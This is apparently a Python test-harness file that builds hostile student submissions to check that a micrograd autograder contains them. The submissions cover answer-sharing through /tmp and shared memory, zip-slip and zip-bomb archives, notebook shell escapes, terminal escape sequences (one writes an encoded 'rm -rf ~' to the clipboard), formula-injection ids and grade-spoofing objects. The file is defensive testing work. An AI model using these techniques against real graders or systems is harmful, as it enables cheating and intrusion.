            _hx_loaded = True
        except Exception:
            pass
if not _hx_loaded:
    raise NotImplementedError("no installed package found as a file")
self.grad += other.data * out.grad
other.grad += self.data * out.grad"""),
    H("pair-a-giver", "a correct engine that, when imported, drops its source into /tmp, /dev/shm, /var/tmp "
      "(0666) and a SysV shared memory segment (0666), then waits 1.2 s so its copy is read while it is graded",
      "nothing it drops or holds reaches another student (no more than its own full marks here)",
      module="engine", honest="same", helpers=DROP, needs="classmates", attack="""# hx-giver-@RUN@
if __name__ == "micrograd.engine":
    import time as _hx_time
    _hx_drop()
    _hx_time.sleep(1.2)"""),
    H("pair-b-copy-taker", "stubs that look for a classmate's copy being graded beside them (another child's "
      "folder in the shared /tmp, or through /proc/*/cwd) and use its Value",
      "a classmate's copy is out of reach: its stubs' score", base="exercises", module="engine", honest="same",
      helpers=PICK_UP, needs="classmates", attack="""_hx_value = _hx_take(1.5)
if _hx_value is not None:
    Value = _hx_value"""),
    H("pair-c-drop-taker", "stubs that, after the giver, read its source from /tmp, /dev/shm, /var/tmp or "
      "SysV shared memory and use its Value", "nothing a child left reaches a later one: its stubs' score",
      base="exercises", module="engine", honest="same", helpers=PICK_UP, needs="classmates",
      attack="""_hx_value = _hx_take(0.5)
if _hx_value is not None:
    Value = _hx_value"""),
    # ---- grads that are not numbers -------------------------------------------------------
    H("grad-nan", "tanh's _backward sets grad = nan", "never passes", task="tanh", attack="self.grad = float('nan')"),
    H("grad-inf", "exp's _backward sets grad = inf", "never passes", task="exp", attack="self.grad = float('inf')"),
    H("grad-str", "relu's _backward sets grad = '0.0'", "never passes", task="relu", attack="self.grad = '0.0'"),
    H("grad-liar", "pow's grad: an object whose __class__ says float, == anything, __float__/__repr__ lie; "
      "and a float subclass doing the same", "never passes", task="pow", helpers=LIARS,
      attack="""globals()["_hx_n"] = globals().get("_hx_n", 0) + 1
self.grad = _HxLiar() if globals()["_hx_n"] % 2 else _HxLiarFloat(12345.0)"""),
    H("grad-raiser", "add's grads: an object whose every attribute, repr, float and == raise",
      "add errors; nothing else", task="add", helpers=RAISER,
      attack="self.grad = _HxRaiser()\nother.grad = _HxRaiser()"),
    H("grad-hang", "mul's grad: an object whose __repr__ and __float__ never return",
      "mul times out; nothing else", task="mul", helpers=HANG, attack="self.grad = _HxHang()"),
    # ---- files that are not what they should be ------------------------------------------
    H("syntax-error", "a syntax error in train()", "train.py does not import: mse_loss and train lose, "
      "nothing else", task="train", attack="for _ in range(steps) model.zero_grad()", honest="broken"),
    H("non-utf8", "nn.py saved as Latin-1", "nn.py does not import; engine and train tasks keep their points",
      module="nn", honest="broken", post=_latin1_nn),
    H("empty-train", "an empty train.py", "mse_loss and train lose; nothing else", module="train",
      honest="broken", post=_empty_train),
    H("empty-file", "a 0-byte .py as the whole submission", "a row, 0 points", kind="empty", honest="none"),
    H("zip-slip", "a .zip with entries ../../evil_MARKER.py and /tmp/evil_MARKER.py beside a correct package",
      "refused whole: a row with the reason, nothing written outside", kind="zip-slip", honest="none"),
    H("zip-bomb", "a .zip of 60 highly compressible 1 MiB entries (60 MiB > the 50 MiB limit), ~70 KB packed",
      "refused: a row with the reason", kind="zip-bomb", honest="none"),
    H("notebook-bad", "a notebook that is truncated JSON", "a row with the reason", kind="notebook-bad",
      honest="none"),
    H("notebook-shell", "a correct notebook with !touch, x = !touch, %sx, %system, %%bash, %%script, %%time "
      "and indented escapes, each touching /tmp/pwned_MARKER*", "no escape ever runs; full marks",
      kind="notebook", honest="same"),
    H("huge", "a 60 MiB .py as the whole submission", "left out (over 1 MiB): a row with the reason",
      kind="huge", honest="none"),
    H("huge-extra", "a correct package plus a 60 MiB micrograd/weights.py", "the big file is left out; "
      "full marks", honest="same", post=_huge_extra),
    H("Zoë Ünïcode", "a correct package in a folder whose name has a space and non-ASCII letters",
      "full marks, a row under a safe id", honest="same"),
    H("李雷", "a correct single-file submission named 李雷.py", "full marks, a row", kind="single", honest="same"),
)


# ---- issue 19, items 2-5: what the grading process parses, what reaches a terminal, identity ----------
# A terminal sequence in every form a submission can carry one: OSC 52 (writes the clipboard), CSI 2J
# (clears the screen), the 8-bit CSI, and a right-to-left override.
ESCAPES = "\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\x9b31m\u202egnp.exe"


def _nb(cells: list[str], metadata: dict | None = None, extra: str = "") -> str:
    """A v4 notebook's text; extra: raw JSON spliced into its top level."""
    nb = {"nbformat": 4, "nbformat_minor": 5, "cells": [
        {"cell_type": "code", "metadata": {}, "source": c, "outputs": [], "execution_count": None} for c in cells],
        "metadata": metadata or {"kernelspec": {"name": "python3", "language": "python", "display_name": "P"}}}
    text = json.dumps(nb)
    return text[:-1] + ", " + extra + "}" if extra else text


def _notebook_of(*cells: str, metadata: dict | None = None, extra: str = ""):
    """make: a notebook whose first cell is the submission's code, then cells."""
    def make(files: dict[str, bytes], folder: Path, hid: str) -> Path:
        path = folder / f"{hid}.ipynb"
        path.write_text(_nb([single_file(files).decode(), *cells], metadata, extra), encoding="utf-8")
        return path
    return make


def _escaped_names(files: dict[str, bytes], folder: Path, hid: str) -> Path:
    """A correct package zipped with an oversized entry whose name is a terminal sequence (a note names
    it), beside a class-folder file named so (the intake names it)."""
    path = folder / f"{hid}.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(f"micrograd/{name}", data)
        zf.writestr(f"micrograd/{ESCAPES}.py", b"#" * (2**20 + 10))
    (folder / f"{ESCAPES}.txt").write_text("not a submission\n", encoding="utf-8")
    return path


LONG_SUM = "total = " + " + ".join(["1"] * 3000)

PARSED_AND_SHOWN: tuple[Hostile, ...] = (
    H("nb-huge-cell", "a correct notebook plus a 6 MB cell that mentions otter (parsed in the grading process, it "
      "took it to 1.4 GB and a RecursionError; then the whole notebook was refused for it: 0 points)",
      "that cell alone is left out, with a note naming it; the rest graded: full marks", kind="made", honest="same",
      make=_notebook_of("import otter\nx = [" + "1," * 3_000_000 + "]")),
    H("nb-deep-json", "a notebook whose metadata nests 100,000 lists (past json's recursion limit)",
      "one row with the reason", kind="made", honest="none",
      make=_notebook_of(extra='"deep": ' + "[" * 100_000 + "]" * 100_000)),
    H("nb-odd-cells", "a correct notebook with an honest cell of a 3,000-term sum (past the parser's default "
      'depth), a cell holding a lone surrogate ("\\ud800", no UTF-8 holds it) and 300,000 empty JSON objects '
      "beside its cells", "full marks; the grading process never holds the objects", kind="made", honest="same",
      make=_notebook_of(LONG_SUM, 'odd = "\ud800"', extra='"x": [' + ",".join(["{}"] * 300_000) + "]")),
    H("esc-kernelspec", "a notebook whose kernelspec language is a terminal sequence (clipboard, clear screen, "
      "C1, bidi)", "one row with the reason; nothing from it acts in any output", kind="made", honest="none",
      make=_notebook_of(metadata={"kernelspec": {"language": ESCAPES}})),
    H("esc-stderr", "engine.py writes terminal sequences to stderr and exits while imported (the row quotes "
      "the child's last stderr line)", "a row with the reason; nothing from it acts in any output",
      module="engine", at="top", honest="broken",
      attack=f"import os, sys\nsys.stderr.write({ESCAPES!r} + '\\n')\nsys.stderr.flush()\nos._exit(1)"),
    H("esc-print", "prints terminal sequences inside add's _backward (shown as what the code printed)",
      "add loses; nothing from it acts in any output", task="add", attack=f"print({ESCAPES!r})"),
    H("esc-names", "the stubs zipped with an oversized entry, and a class-folder file beside it, named with "
      "terminal sequences", "its row; the notes name them inert", kind="made", base="exercises", honest="same",
      make=_escaped_names),
    H("rt3 coll", "the stubs, in a folder whose name sanitises to another student's (rt3_coll) and sorts first",
      "its own marked id; the row rt3_coll stays rt3_coll's", base="exercises", honest="same"),
    H("rt3_coll", "a correct package under the id another student's name sanitises to",
      "full marks in the row named rt3_coll", honest="same"),
    H("+plus-sign", "the stubs as a single file whose id begins with + (a spreadsheet formula)",
      "its row; the id reads back from gradebook.csv unchanged", kind="single", base="exercises", honest="same"),
    H("@at-sign", "the stubs, in a folder whose id begins with @", "its row; the id reads back unchanged",
      base="exercises", honest="same"),
)
HOSTILES += PARSED_AND_SHOWN


def by_id() -> dict[str, Hostile]:
    return {h.id: h for h in HOSTILES}


def fill(text: str, tokens: Tokens, index: int, student: str) -> str:
    for key, value in {"@MARKER@": tokens.marker(index), "@STUDENT@": student, "@VICTIM@": tokens.victim,
                       "@PORT@": str(tokens.port), "@EXT_HOST@": tokens.ext_host, "@RUN@": tokens.run,
                       "@EXT_PORT@": str(tokens.ext_port)}.items():
        text = text.replace(key, value)
    return text


# ---- building ---------------------------------------------------------------------------

BEGIN = re.compile(r"^(?P<indent>[ \t]*)#\s*BEGIN SOLUTION (?P<task>[a-z_]+)\b")
END = re.compile(r"^[ \t]*#\s*END SOLUTION\b")


def replace_block(source: str, task: str, code: str) -> str:
    """source with the first solution block of `task` replaced by `code`, at the block's indentation."""
    lines = source.splitlines(keepends=True)
    for i, line in enumerate(lines):
        begin = BEGIN.match(line)
        if begin and begin["task"] == task:
            end = next(j for j in range(i + 1, len(lines)) if END.match(lines[j]))
            body = textwrap.indent(textwrap.dedent(code).strip("\n") + "\n", begin["indent"],
                                   lambda _line: True)
            return "".join(lines[:i]) + body + "".join(lines[end + 1:])
    raise ValueError(f"no solution block for task {task!r}")


def base_files(base: str) -> dict[str, str]:
    """{module file name: text} of a base: the solutions, the stubs, or the stubs' engine."""
    files = {f"{m}.py": (SOLUTIONS / f"{m}.py").read_text(encoding="utf-8") for m in MODULES}
    files["__init__.py"] = ""
    if base in ("exercises", "stub-engine"):
        stubbed = MODULES if base == "exercises" else ("engine",)
        files.update({f"{m}.py": (EXERCISES / f"{m}.py").read_text(encoding="utf-8") for m in stubbed})
    return files


def package_files(h: Hostile, tokens: Tokens, index: int, student: str, *, twin: bool = False) -> dict[str, bytes]:
    """The micrograd/ files of the hostile, or of its honest twin (no attack, no prelude), as bytes."""
    files = base_files(h.base)
    if h.task:
        where = f"{TASK_MODULE[h.task]}.py"
        code = f"raise NotImplementedError('honest twin: {h.task}')" if twin else h.attack
        files[where] = replace_block(files[where], h.task, code)
    home = f"{h.home}.py"
    if twin:
        if h.honest == "broken":
            files[home] = f"raise ImportError('honest twin: {home} does not import')\n"
        return {name: text.encode() for name, text in files.items()}
    if h.helpers:  # definitions first: an import-time attack at the bottom calls them
        files[home] = files[home].rstrip("\n") + "\n\n" + h.helpers.strip("\n") + "\n"
    if h.module and not h.task and h.attack:
        if h.at == "top":
            files[home] = h.attack.rstrip("\n") + "\n\n" + files[home]
        else:
            files[home] = files[home].rstrip("\n") + "\n\n\n" + h.attack.rstrip("\n") + "\n"
    files["engine.py"] = PRELUDE + files["engine.py"]
    out = {name: fill(text, tokens, index, student).encode() for name, text in files.items()}
    if h.post:
        h.post(out)
    return out


def single_file(files: dict[str, bytes]) -> bytes:
    """engine, nn and train as one file (nn's import of Value dropped)."""
    nn = files["nn.py"].replace(b"from micrograd.engine import Value\n", b"")
    return files["engine.py"] + b"\n\n" + nn + b"\n\n" + files["train.py"]


def write_folder(dest: Path, files: dict[str, bytes]) -> Path:
    package = dest / "micrograd"
    package.mkdir(parents=True)
    for name, data in files.items():
        (package / name).write_bytes(data)
    return dest


def notebook(code: bytes, pwned: str) -> str:
    import nbformat

    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["language_info"] = {"name": "python"}
    engine, _, rest = code.decode().partition("\nclass Module")
    nb.cells = [
        nbformat.v4.new_markdown_cell("# My micrograd"),
        nbformat.v4.new_code_cell(f"!touch {pwned}-bang\n%pip install torch\n" + engine),
        nbformat.v4.new_code_cell(f"files = !touch {pwned}-assign\n%sx touch {pwned}-sx\n"
                                  f"%system touch {pwned}-system\nlosses = []"),
        nbformat.v4.new_code_cell(f"%%bash\ntouch {pwned}-bash"),
        nbformat.v4.new_code_cell(f"%%script bash\ntouch {pwned}-script"),
        nbformat.v4.new_code_cell(f"%%time\n!touch {pwned}-time\nx = 1"),
        nbformat.v4.new_code_cell(f"if True:\n    !touch {pwned}-indented\n    y = 2"),
        nbformat.v4.new_code_cell("class Module" + rest),
    ]
    return nbformat.writes(nb)


def build(h: Hostile, index: int, tokens: Tokens, folder: Path, student: str) -> Path:
    """Write hostile h into the class folder; returns its path."""
    files = package_files(h, tokens, index, student)
    marker = tokens.marker(index)
    if h.kind == "made":
        return h.make(files, folder, h.id)
    if h.kind == "folder":
        return write_folder(folder / h.id, files)
    if h.kind == "symlinks":  # as `git clone` of a student's repo makes them
        path = write_folder(folder / h.id, files)
        (path / "micrograd" / "oracle").symlink_to(REPO / "reference", target_is_directory=True)
        (path / "micrograd" / "helper.py").symlink_to(REPO / "reference" / "engine.py")
        return path
    if h.kind == "single":
        path = folder / f"{h.id}.py"
        path.write_bytes(single_file(files))
    elif h.kind == "empty":
        path = folder / f"{h.id}.py"
        path.write_bytes(b"")
    elif h.kind == "huge":
        path = folder / f"{h.id}.py"
        path.write_bytes(single_file(files) + b"\n# " + b"x" * BIG + b"\n")
    elif h.kind == "notebook":
        path = folder / f"{h.id}.ipynb"
        path.write_text(notebook(single_file(files), f"/tmp/pwned_{marker}"), encoding="utf-8")
    elif h.kind == "notebook-bad":
        path = folder / f"{h.id}.ipynb"
        path.write_text('{"cells": [{"cell_type": "code", "source": "import os\\nos.system(', encoding="utf-8")
    elif h.kind in ("zip-slip", "zip-bomb"):
        path = folder / f"{h.id}.zip"
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in files.items():
                zf.writestr(f"micrograd/{name}", data)
            if h.kind == "zip-slip":
                evil = f"open('/tmp/pwned_{marker}-zip', 'w').close()\n"
                zf.writestr(f"../../evil_{marker}.py", evil)
                zf.writestr(f"/tmp/evil_{marker}.py", evil)
            else:
                pad = b"#" * (2**20 - 1) + b"\n"
                for i in range(60):
                    zf.writestr(f"micrograd/pad_{i:02d}.py", pad)
        path.write_bytes(buffer.getvalue())
    else:
        raise ValueError(f"{h.id}: unknown kind {h.kind}")
    return path


def build_honest(folder: Path, tokens: Tokens) -> None:
    """The honest submissions and the victim: the solutions, the victim's engine with its secret."""
    for name in HONEST:
        write_folder(folder / name, {n: t.encode() for n, t in base_files("solutions").items()})
    files = {n: t.encode() for n, t in base_files("solutions").items()}
    files["engine.py"] += f"\n# {tokens.victim}: only the saboteur looks for this line\n".encode()
    write_folder(folder / VICTIM, files)


def evil_paths(tokens: Tokens, index: int, class_dir: Path) -> list[Path]:
    """Where zip-slip's entries and notebook-shell's escapes would land if they ever ran."""
    marker = tokens.marker(index)
    found = [class_dir.parent / f"evil_{marker}.py", class_dir.parent.parent / f"evil_{marker}.py",
             Path(f"/tmp/evil_{marker}.py")]
    found += sorted(Path("/tmp").glob(f"pwned_{marker}*"))
    return found


def readme_lines() -> list[str]:
    return [f"- `{h.id}` — tries: {h.tries}. Must hold: {h.holds}." for h in HOSTILES]


def rubric_toml() -> str:
    return "".join(f"{k} = {json.dumps(v)}\n" for k, v in RUBRIC.items())
